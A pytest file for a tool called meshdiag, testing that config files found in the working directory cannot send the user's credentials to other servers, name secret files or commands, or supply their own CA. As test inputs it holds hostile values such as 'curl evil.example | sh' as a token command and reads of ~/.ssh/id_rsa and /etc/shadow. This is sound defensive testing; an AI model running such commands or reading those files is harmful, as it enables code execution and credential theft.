"""A file that lies in the working directory cannot send the user's credentials where it likes."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from meshdiag.context import Endpoint
from meshdiag.errors import ConfigError
from tests.unit.configs import World

USER = """
[contexts.prod.prometheus]
url = "https://prom.example/team"
ca_file = "/tls/ca.pem"
cert_file = "/tls/cert.pem"
key_file = "/tls/key.pem"
headers = { X-Api-Key = "k" }
token_file = "/secret/token"
"""


@pytest.fixture
def world(tmp_path: Path) -> World:
    """A user with credentials for the production Prometheus."""
    world = World(tmp_path, {"MESHDIAG_CONTEXT": "prod"})
    world.user(USER)
    return world


def _prometheus(world: World, **more: object) -> Endpoint:
    endpoint = world.load(**more).context.prometheus
    assert endpoint is not None
    return endpoint


def _bare(endpoint: Endpoint) -> bool:
    """Whether nothing in it tells a server who asks."""
    return not (endpoint.credentials or endpoint.cert_file or endpoint.key_file or endpoint.headers)


@pytest.mark.parametrize(
    "url",
    [
        "https://evil.example/team",
        "http://prom.example/team",
        "https://prom.example:8443/team",
        "https://prom.example.evil.example/team",
    ],
)
def test_another_server_gets_no_credentials(world: World, url: str) -> None:
    """Another host, another port, the same host without TLS: nothing of the user's goes there, and a note says so."""
    world.found(f'[contexts.prod.prometheus]\nurl = "{url}"\n')
    endpoint = _prometheus(world)
    assert endpoint.url == url
    assert _bare(endpoint)
    (note,) = world.load().notes
    assert note.startswith(
        "./meshdiag.toml:2 sets prometheus.url to another server, so the credentials and client cert"
    )
    assert "config.toml:8" in note


@pytest.mark.parametrize("url", ["https://prom.example/other", "https://PROM.example:443", "https://prom.example."])
def test_another_path_on_the_same_server_keeps_them(world: World, url: str) -> None:
    """Credentials belong to a server: scheme, host and port, however they are written."""
    world.found(f'[contexts.prod.prometheus]\nurl = "{url}"\n')
    assert not _bare(_prometheus(world))
    assert world.load().notes == ()


def test_a_trusted_layer_that_moves_the_url_drops_them_too(world: World) -> None:
    """Also a file given by name, the environment and a flag: what was written for one server is not sent to another."""
    given = world.given('[contexts.prod]\nprometheus = "https://elsewhere.example"\n')
    assert _bare(_prometheus(world, config_file=given))
    assert _bare(_prometheus(world, overrides={"prometheus": "https://elsewhere.example"}))
    world.environ["MESHDIAG_PROMETHEUS_URL"] = "https://elsewhere.example"
    assert _bare(_prometheus(world))


def test_a_layer_that_moves_the_url_may_bring_its_own(world: World) -> None:
    """A file given by name comes with its own credentials, and only those are used."""
    given = world.given('[contexts.prod.prometheus]\nurl = "https://else.example"\ntoken_env = "OTHER"\n')
    endpoint = _prometheus(world, config_file=given)
    assert endpoint.credentials is not None
    assert endpoint.credentials.secret.reference == "OTHER"
    assert endpoint.cert_file is None
    assert endpoint.headers == {}


def test_credentials_do_not_come_back_with_the_url(world: World) -> None:
    """Once dropped they stay dropped: a weaker layer's secret cannot be fetched by a detour."""
    world.found('[contexts.prod]\nprometheus = "https://evil.example"\n')
    world.environ["MESHDIAG_PROMETHEUS_URL"] = "https://prom.example"
    assert _bare(_prometheus(world))


def test_credentials_without_a_url_belong_to_the_built_in_one(world: World) -> None:
    """Credentials that the user wrote for the default address do not follow when another file names the server."""
    world.user('[contexts.prod.prometheus]\ntoken_file = "/t"\n')
    assert not _bare(_prometheus(world))
    world.found('[contexts.prod]\nprometheus = "http://evil.example:9090"\n')
    assert _bare(_prometheus(world))


def test_switching_off_and_on_is_no_detour(world: World) -> None:
    """A source that was switched off in between is still the same server or another one."""
    world.user(USER.replace("contexts.prod", "contexts.prod"))
    world.found("[contexts.prod]\nprometheus = false\n")
    world.environ["MESHDIAG_PROMETHEUS_URL"] = "https://evil.example"
    assert _bare(_prometheus(world))


@pytest.mark.parametrize(
    "setting",
    [
        'token_file = "~/.ssh/id_rsa"',
        'token_env = "AWS_SECRET_ACCESS_KEY"',
        'token_command = "curl evil.example | sh"',
        'username = "u"\npassword_file = "/etc/shadow"',
        'username = "u"\npassword_env = "HOME"',
        'username = "u"\npassword_command = ["sh", "-c", "x"]',
        'cert_file = "/tls/cert.pem"',
        'cert_file = "/c"\nkey_file = "~/.ssh/id_rsa"',
    ],
)
@pytest.mark.parametrize("table", ["prometheus", "scrape"])
def test_a_found_file_names_no_secrets(world: World, table: str, setting: str) -> None:
    """It could name any file or command of the user's; the sentence says how to trust it. Given by name it may."""
    text = f"[contexts.prod.{table}]\n{setting}\n"
    file = world.found(text)
    with pytest.raises(ConfigError, match=r"if you trust it, pass it with --config \./meshdiag\.toml"):
        world.load()
    assert world.load(config_file=file).context.name == "prod"


def test_a_found_file_does_not_vouch_for_a_server_with_credentials(world: World) -> None:
    """With its own CA it could read what is sent to the user's server from the middle: that CA is left out."""
    world.found('[contexts.prod.prometheus]\nca_file = "evil.pem"\n')
    loaded = world.load()
    assert loaded.context.prometheus is not None
    assert loaded.context.prometheus.ca_file == Path("/tls/ca.pem")
    assert not _bare(loaded.context.prometheus)
    assert any("ca_file is left out" in note for note in loaded.notes)


def test_a_found_file_may_bring_a_ca_for_its_own_server(world: World) -> None:
    """Where nothing of the user's is sent, its CA is as good as its URL."""
    world.found('[contexts.prod.prometheus]\nurl = "https://lab"\nca_file = "ca.pem"\n')
    assert _prometheus(world).ca_file == world.project / "ca.pem"


def test_a_found_file_does_not_set_the_host_header(world: World) -> None:
    """A Host header would lead credentials to another site behind the same proxy."""
    world.found('[contexts.prod.prometheus]\nheaders = { Host = "evil.example" }\n')
    with pytest.raises(ConfigError, match=r"headers\.Host is not for a file"):
        world.load()


SCRAPE = '[contexts.prod.scrape]\ntoken_file = "/t"\nheaders = { X-Api-Key = "k" }\n'


@pytest.mark.parametrize(
    "found",
    [
        '[contexts.prod]\nnodes = ["evil.example:1"]\n',
        '[[contexts.prod.nodes]]\nurl = "https://evil.example/metrics"\n',
        '[contexts.prod]\nnode_files = ["*.json"]\n',
    ],
)
def test_nodes_of_another_layer_get_no_credentials(world: World, found: str) -> None:
    """The user's scrape credentials go to the user's nodes alone."""
    world.user(SCRAPE + '[[contexts.prod.nodes]]\naddress = "good:1"\n')
    assert not _bare(world.load().context.scrape)
    world.found(found)
    loaded = world.load()
    assert _bare(loaded.context.scrape)
    assert any("names other nodes" in note for note in loaded.notes)


def test_nodes_of_the_environment_get_no_credentials(world: World) -> None:
    """As with a URL: credentials belong to the addresses that they were written for."""
    world.user(SCRAPE)
    world.environ["MESHDIAG_NODES"] = "other:1"
    assert _bare(world.load().context.scrape)


def test_nodes_of_a_weaker_layer_get_the_stronger_ones_credentials(world: World) -> None:
    """A file given by name may add credentials for the nodes that are listed below it."""
    world.user('[contexts.prod]\nnodes = ["good:1"]\n')
    assert not _bare(world.load(config_file=world.given(SCRAPE)).context.scrape)


def test_a_found_ca_does_not_vouch_for_nodes_with_credentials(world: World) -> None:
    """The same rule for the nodes' pages."""
    world.user(SCRAPE)
    world.found('[contexts.prod.scrape]\nca_file = "evil.pem"\n')
    assert world.load().context.scrape.ca_file is None


def test_contexts_do_not_lend_each_other_credentials(world: World) -> None:
    """A context that another file invents has nothing of the user's contexts."""
    world.found('default_context = "x"\n[contexts.x]\nprometheus = "https://prom.example/team"\n')
    assert _bare(_prometheus(world, context="x"))


def test_who_chose_the_context_is_told(world: World) -> None:
    """A found file may choose among the user's contexts, and `config show` says that it did."""
    del world.environ["MESHDIAG_CONTEXT"]
    world.found('default_context = "prod"\n')
    assert world.load().origins["context"] == "./meshdiag.toml:1"


def test_a_file_that_everybody_can_write_is_noted(world: World) -> None:
    """The user's own file must be the user's."""
    (world.home / "config.toml").chmod(0o666)
    assert any("can be written by everybody on this machine" in note for note in world.load().notes)


@pytest.mark.skipif(os.geteuid() != 0, reason="only root can give a file to somebody else")
def test_a_file_of_somebody_else_is_noted(world: World) -> None:
    """A file that another user put into the working directory is named."""
    os.chown(world.found(""), 12345, 12345)
    assert any("belongs to another user (uid 12345)" in note for note in world.load().notes)


def test_a_pipe_in_the_working_directory_is_not_waited_for(world: World) -> None:
    """A named pipe under the name of a configuration file would hang every command."""
    os.mkfifo(world.project / "meshdiag.toml")
    assert world.load().context.name == "prod"


def test_a_target_file_that_is_a_pipe_is_not_waited_for(world: World) -> None:
    """Nor one under the name of a target file."""
    os.mkfifo(world.project / "targets.json")
    world.found('[contexts.prod]\nnode_files = ["targets.json"]\n')
    with pytest.raises(ConfigError, match=r"targets\.json is not a regular file"):
        world.load()


def test_the_same_file_is_read_once(world: World) -> None:
    """In the user's own folder a link to the user's file is the user's file, not a found one."""
    (world.project / "meshdiag.toml").symlink_to(world.home / "config.toml")
    assert not _bare(_prometheus(world))
